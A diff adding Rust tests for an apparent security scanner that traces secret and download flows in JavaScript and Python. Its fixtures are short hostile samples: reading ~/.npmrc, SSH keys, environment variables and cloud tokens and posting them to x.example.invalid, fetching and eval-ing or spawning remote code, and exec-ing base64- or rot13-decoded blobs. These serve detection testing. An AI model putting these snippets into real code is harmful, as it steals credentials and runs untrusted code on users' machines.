@@ -1,0 +1,153 @@
+use super::*;
+use crate::segment::segment_file;
+use skill_scan_model::Language;
+
+/// `(kind, sink text, source text, via text)` of every flow in a one-file module.
+fn flows_of(
+    path: &str,
+    language: Language,
+    text: &str,
+) -> Vec<(FlowKind, String, String, Option<String>)> {
+    let segments = segment_file(text, language, path);
+    let mut out = Vec::new();
+    for segment in &segments {
+        if segment.grammar.is_none() {
+            continue;
+        }
+        let base = segment.start;
+        for flow in &flows(segment, text).flows {
+            let sink = &text[base + flow.sink.0..base + flow.sink.1];
+            let source_line = text[base + flow.source_at..].lines().next().unwrap_or("");
+            let via = flow
+                .via
+                .as_ref()
+                .map(|(at, _)| text[base + at..].lines().next().unwrap_or("").to_string());
+            out.push((
+                flow.kind,
+                sink.lines().next().unwrap_or("").to_string(),
+                source_line.to_string(),
+                via,
+            ));
+        }
+    }
+    out
+}
+
+fn js(text: &str) -> Vec<(FlowKind, String, String, Option<String>)> {
+    flows_of("index.js", Language::Javascript, text)
+}
+
+fn py(text: &str) -> Vec<(FlowKind, String, String, Option<String>)> {
+    flows_of("mod.py", Language::Python, text)
+}
+
+#[test]
+fn secret_through_variables_and_a_wrapper_reaches_the_sink() {
+    let text = "const fs = require('fs');\nconst os = require('os');\nconst https = require('https');\nfunction send(body) {\n  const req = https.request({ host: 'x.example.invalid' });\n  req.write(body);\n}\nconst p = `${os.homedir()}/.npmrc`;\nconst npmrc = fs.readFileSync(p, 'utf8');\nconst payload = JSON.stringify({ npmrc });\nsend(payload);\n";
+    let found = js(text);
+    assert_eq!(found.len(), 1, "{found:?}");
+    let (kind, sink, source, via) = &found[0];
+    assert_eq!(*kind, FlowKind::CredentialToNetwork);
+    assert_eq!(sink, "req.write(body)");
+    assert!(source.starts_with("fs.readFileSync(p"), "{source}");
+    assert_eq!(via.as_deref(), Some("send(payload);"));
+}
+
+#[test]
+fn hits_carry_a_message_and_the_source_as_related() {
+    let text = "import requests\nfrom pathlib import Path\nkey = (Path.home() / '.ssh' / 'id_rsa').read_text()\nrequests.post('https://x.example.invalid', data={'k': f'key={key}'})\n";
+    let segments = segment_file(text, Language::Python, "a.py");
+    let mut hits = Vec::new();
+    (CREDENTIAL_TO_NETWORK.run)(&segments[0], text, &mut |hit| {
+        hits.push(hit);
+        true
+    });
+    assert_eq!(hits.len(), 1);
+    let detail = hits[0].detail.as_ref().unwrap();
+    assert!(
+        detail.message.contains("requests.post"),
+        "{}",
+        detail.message
+    );
+    assert!(detail.message.contains(".ssh"), "{}", detail.message);
+    let (at, note) = &detail.related[0];
+    assert!(
+        text[*at..].starts_with("(Path.home()") || text[*at..].starts_with("Path.home()"),
+        "{}",
+        &text[*at..]
+    );
+    assert!(note.starts_with("secret read here"), "{note}");
+}
+
+#[test]
+fn env_dump_and_harvested_tokens_reach_the_network_but_one_own_key_does_not() {
+    let dump = py("import os, json, requests\npayload = json.dumps({'e': os.environ.copy()})\nrequests.post('https://x.example.invalid', data=payload)\n");
+    assert_eq!(dump.len(), 1);
+    assert_eq!(dump[0].0, FlowKind::EnvironmentToNetwork);
+    let harvest = js("const t = [process.env.NPM_TOKEN, process.env.GITHUB_TOKEN];\nt.push(process.env.AWS_SECRET_ACCESS_KEY);\nfetch('https://x.example.invalid', { method: 'POST', body: t.join(',') });\n");
+    assert_eq!(harvest.len(), 1, "{harvest:?}");
+    let own = js("const { STRIPE_API_KEY } = process.env;\nfetch('https://api.stripe.com/v1/charges', { headers: { Authorization: `Bearer ${STRIPE_API_KEY}` } });\n");
+    assert!(own.is_empty(), "{own:?}");
+}
+
+#[test]
+fn downloads_reaching_exec_through_promises_and_files() {
+    let promise = js("fetch('https://x.example.invalid/p.js').then((r) => r.text()).then((code) => eval(code));\n");
+    assert_eq!(promise.len(), 1, "{promise:?}");
+    assert_eq!(promise[0].0, FlowKind::DownloadToExec);
+    let dropped = js("const https = require('https');\nconst fs = require('fs');\nconst { spawn } = require('child_process');\nconst dest = '/tmp/x';\nhttps.get('https://x.example.invalid/bin', (res) => {\n  const file = fs.createWriteStream(dest);\n  res.pipe(file);\n  file.on('finish', () => spawn(dest, [], { detached: true }));\n});\n");
+    assert_eq!(dropped.len(), 1, "{dropped:?}");
+    assert!(dropped[0].1.starts_with("spawn(dest"));
+    let retrieved = py("import os, urllib.request as u\nu.urlretrieve('https://x.example.invalid/a', '/tmp/a')\np = '/tmp/a'\nurl = 'https://x.example.invalid/b'\nu.urlretrieve(url, p)\nos.system(p)\n");
+    assert_eq!(retrieved.len(), 1, "{retrieved:?}");
+}
+
+#[test]
+fn parsed_json_and_hashed_downloads_are_not_code() {
+    assert!(py("import requests, subprocess\ncfg = requests.get('https://x.example.invalid/c').json()\nsubprocess.run(['git', 'clone', cfg['repo']])\n").is_empty());
+    let hashed = js("const crypto = require('crypto');\nconst fs = require('fs');\nasync function f(dest) {\n  const data = await (await fetch('https://x.example.invalid/b')).arrayBuffer();\n  const h = crypto.createHash('sha256').update(Buffer.from(data)).digest('hex');\n  fs.writeFileSync(dest, Buffer.from(data));\n  fs.chmodSync(dest, 0o755);\n}\n");
+    assert!(hashed.is_empty(), "{hashed:?}");
+}
+
+#[test]
+fn decoded_data_reaching_exec_through_a_helper() {
+    let found = py("import base64, zlib\ndef run(src):\n    exec(compile(src, '<x>', 'exec'))\nblob = 'eJzLSM3JyVcozy/KSQEAGgQEXQ=='\nrun(zlib.decompress(base64.b64decode(blob)))\n");
+    assert_eq!(found.len(), 1, "{found:?}");
+    assert_eq!(found[0].0, FlowKind::DecodedToExec);
+    assert_eq!(
+        found[0].3.as_deref(),
+        Some("run(zlib.decompress(base64.b64decode(blob)))")
+    );
+    let rot = py("import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))\n");
+    assert_eq!(rot.len(), 1);
+    let char_codes =
+        js("const s = String.fromCharCode(97, 108, 101, 114, 116);\nnew Function(s)();\n");
+    assert_eq!(char_codes.len(), 1, "{char_codes:?}");
+}
+
+#[test]
+fn names_that_merely_look_like_sinks_are_not_sinks() {
+    // A regex's exec, a method named eval, a local function called fetch.
+    let text = "const fs = require('fs');\nconst data = fs.readFileSync('.env', 'utf8');\n/^x/.exec(data);\nparser.eval(data);\nfunction fetch(x) { return x.length; }\nfetch(data);\n";
+    assert!(js(text).is_empty(), "{:?}", js(text));
+}
+
+#[test]
+fn variables_in_different_functions_do_not_mix() {
+    let text = "const fs = require('fs');\nfunction a() { const data = fs.readFileSync('/home/u/.ssh/id_rsa'); return data.length; }\nfunction b() { const data = JSON.stringify({ ok: 1 }); fetch('https://x.example.invalid', { method: 'POST', body: data }); }\n";
+    assert!(js(text).is_empty(), "{:?}", js(text));
+}
+
+#[test]
+fn oversized_segments_are_skipped_with_a_note() {
+    let text = format!("var a = 1;{}", " ".repeat(MAX_SEGMENT_BYTES));
+    let segments = segment_file(&text, Language::Javascript, "big.js");
+    let result = flows(&segments[0], &text);
+    assert!(result.flows.is_empty());
+    assert!(result
+        .note
+        .as_deref()
+        .unwrap_or("")
+        .contains("flow analysis"));
+    assert_eq!(segments[0].notes().count(), 1);
+}
